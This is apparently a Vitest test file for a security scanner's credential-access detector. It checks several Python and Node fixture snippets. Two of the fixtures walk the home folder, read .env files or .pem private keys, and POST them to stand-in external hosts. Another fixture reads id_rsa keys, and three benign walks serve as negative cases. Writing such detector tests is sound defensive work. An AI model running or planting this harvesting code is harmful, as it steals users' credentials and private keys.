import { describe, expect, it } from 'vitest';
import { codeDetectors } from '../../../../src/scan/detectors/code-index.js';
import { runAll } from './make-context.js';

// Class 1 (walks): secret files picked out of a walk of the home folder by name (.env, id_rsa, *.pem) and
// read are credential access (PE3) at the read; sent to an undeclared host they are near-certain. A walk of
// the project, a walk that only counts names, or one that reads ordinary files is not.

interface WalkCase {
  name: string;
  path: string;
  text: string;
  /** Expected PE3 at this line with at least this confidence; null when no PE3 may be reported. */
  pe3: [number, number] | null;
}

const cases: WalkCase[] = [
  {
    name: 'python: os.walk over home, every .env read and posted',
    path: 'scripts/envcheck.py',
    text: 'import os, requests\nbase = os.path.expanduser("~")\ngot = {}\nfor folder, _subdirs, names in os.walk(base):\n    for n in names:\n        if n in (".env", ".env.local"):\n            with open(os.path.join(folder, n)) as fh:\n                got[folder] = fh.read()\nrequests.post("https://lint.example-envtools.dev/check", json=got, timeout=10)\n',
    pe3: [7, 0.9],
  },
  {
    name: 'node: recursive readdir from homedir keeps private keys and sends them',
    path: 'scripts/keys.js',
    text: "const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nconst keys = [];\nfunction crawl(dir, level) {\n  if (level > 4) return;\n  for (const ent of fs.readdirSync(dir, { withFileTypes: true })) {\n    const full = path.join(dir, ent.name);\n    if (ent.isDirectory()) crawl(full, level + 1);\n    else if (ent.name.endsWith('.pem')) {\n      keys.push(fs.readFileSync(full, 'utf8'));\n    }\n  }\n}\ncrawl(os.homedir(), 0);\nfetch('https://certs.example-inventory.net/in', { method: 'POST', body: JSON.stringify(keys) });\n",
    pe3: [11, 0.9],
  },
  {
    name: 'python: Path.home().rglob for id_rsa, read but not sent (credential access, not certain theft)',
    path: 'scripts/find_keys.py',
    text: 'from pathlib import Path\nfor p in Path.home().rglob("id_rsa"):\n    body = p.read_text()\n    print(p, len(body))\n',
    pe3: [3, 0.6],
  },
  {
    name: 'no PE3: the project tree is walked for .env files to lint their keys',
    path: 'scripts/lint_env.py',
    text: 'import os\nfor folder, _d, names in os.walk("."):\n    if ".env" in names:\n        text = open(os.path.join(folder, ".env")).read()\n        print(folder, len(text.splitlines()))\n',
    pe3: null,
  },
  {
    name: 'no PE3: a home walk that only counts .env files',
    path: 'scripts/count_env.py',
    text: 'import os\nn = 0\nfor _f, _d, names in os.walk(os.path.expanduser("~")):\n    if ".env" in names:\n        n += 1\nprint(n)\n',
    pe3: null,
  },
  {
    name: 'no PE3: a home walk that reads README files',
    path: 'scripts/readmes.py',
    text: 'import os\nfor folder, _d, names in os.walk(os.path.expanduser("~/projects")):\n    for n in names:\n        if n == "README.md":\n            print(open(os.path.join(folder, n)).read()[:80])\n',
    pe3: null,
  },
];

describe('round 2: secret files found by walking home', () => {
  it.each(cases)('$name', async (c) => {
    const hits = await runAll(codeDetectors, c.path, c.text);
    const summary = hits.map((h) => `${h.pattern}@${h.line} (${h.confidence}) ${h.rationale}`).join('\n');
    const pe3 = hits.filter((h) => h.pattern === 'PE3');
    if (c.pe3 === null) expect(pe3, summary).toEqual([]);
    else {
      const [line, min] = c.pe3;
      const at = pe3.filter((h) => h.line <= line && line <= h.endLine);
      expect(Math.max(0, ...at.map((h) => h.confidence)), summary).toBeGreaterThanOrEqual(min);
    }
  });
});
